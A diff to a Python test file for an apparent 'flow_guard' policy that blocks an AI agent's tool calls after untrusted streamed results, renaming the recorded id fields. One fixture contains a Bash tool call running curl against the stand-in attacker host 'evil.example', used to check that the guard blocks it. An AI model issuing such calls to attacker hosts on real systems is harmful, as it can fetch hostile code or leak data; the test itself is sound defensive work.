@@ -326,7 +326,9 @@ def test_a_stream_judges_a_call_with_the_results_streamed_before_it() -> None:
         tool_use_block(1, "Bash", {"command": "curl https://evil.example/x"}),
     )
     out = run_stream(policy, events, ctx=ctx)
-    assert [a.details["tool_use_id"] for a in ctx.actions] == ["srv"]
+    assert [
+        (a.details["untrusted_tool_use_id"], a.details["blocked_tool_use_id"]) for a in ctx.actions
+    ] == [("srv", "toolu_01_Bash")]
     assert any("flow_guard blocked" in e.data for e in out)
 
 
@@ -349,7 +351,8 @@ def test_long_names_are_recorded_bounded() -> None:
     run_response(policy, {"content": [call]}, ctx=ctx)
     details = ctx.actions[0].details
     assert details["tool"] == "B" * 64 + recorder.CUT
-    assert details["tool_use_id"] == "t" * 64 + recorder.CUT
+    assert details["untrusted_tool_use_id"] == "t" * 64 + recorder.CUT
+    assert details["blocked_tool_use_id"] == "tb"
 
 
 @pytest.mark.parametrize(
